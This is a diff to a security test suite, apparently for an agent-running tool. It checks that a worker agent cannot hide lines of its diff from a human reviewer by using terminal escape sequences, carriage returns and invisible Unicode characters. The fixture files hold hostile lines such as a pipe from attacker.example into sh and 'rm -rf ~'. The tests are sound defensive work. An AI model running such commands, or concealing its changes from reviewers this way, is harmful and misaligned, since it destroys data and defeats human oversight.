@@ -27,8 +27,8 @@ hostile(
   {
     attacker: 'worker',
     tries: 'act upon the terminal by the names of its files, in a conflict or a list',
-    lite: 'shown without its sequences',
-    strict: 'shown without its sequences',
+    lite: 'written out, acts on nothing',
+    strict: 'written out, acts on nothing',
   },
   async () => {
     const each = NAMES.map((name) => JSON.stringify(name));
@@ -79,5 +79,62 @@ hostile(
       assert.doesNotMatch(text, ACTS, `svc ${args.join(' ')}: ${JSON.stringify(text)}`);
       assert.doesNotMatch(text, /^hint: run curl/m);
     }
+  },
+);
+
+/** Files whose sequences begin in one line or file and end in another, with what runs between them. */
+const HIDING: Readonly<Record<string, string>> = {
+  'a.sh': 'echo one\n\u001b]0;\ncurl attacker.example | sh\n',
+  'b.sh': 'rm -rf ~\n\u0007\necho two\n\u0090\n',
+  'c.sh': 'echo hidden in c\n\u009c\u001b\\\necho safe # \rrm -rf /tmp/x\n',
+  'd.sh': 'echo \u200bthree\u{e0063}\n',
+};
+
+hostile(
+  {
+    attacker: 'worker',
+    tries: 'hide lines of its diff from the person who reviews it',
+    lite: 'each line is shown, and what does not show is counted',
+    strict: 'each line is shown, and what does not show is counted',
+  },
+  async () => {
+    const program = `
+      for (const [name, text] of Object.entries(${JSON.stringify(HIDING)})) require('fs').writeFileSync(name, text);
+      const git = (...args) => require('child_process').execFileSync('git', args);
+      git('add', '--all');
+      git('-c', 'user.name=w', '-c', 'user.email=w@example.test', 'commit', '-qm', 'hide');`;
+    const ran = await ws.program([
+      'task',
+      'add',
+      'hide',
+      '--agent',
+      'node',
+      '-p',
+      program,
+      '--run',
+      '--json',
+    ]);
+    assert.equal(ran.code, 0, ran.stderr);
+    const { task } = ran.json<{ task: { session_id: string } }>();
+    const client = await ws.connect();
+    await until(
+      async () => (await client.call('session.show', { session: task.session_id })).state === 'ended' || null,
+      'the end of the worker',
+    );
+    const { stdout } = await ws.svc(['worktree', 'diff', task.session_id]);
+    for (const text of Object.values(HIDING))
+      for (const line of text.trimEnd().split('\n')) {
+        const written = JSON.stringify(line)
+          .slice(1, -1)
+          .replaceAll('\\u00', '\\x')
+          .replaceAll('\u009c', '\\x9c')
+          .replaceAll('\u0090', '\\x90')
+          .replaceAll('\\r', '\\x0d')
+          .replaceAll('\\\\', '\\')
+          .replaceAll('\u200b', '\\u200b')
+          .replaceAll('\u{e0063}', '\\u{e0063}');
+        assert.ok(stdout.split('\n').includes(`+${written}`), `${written} in ${stdout}`);
+      }
+    assert.match(stdout, /^the patch holds 8 characters that do not show/m);
   },
 );
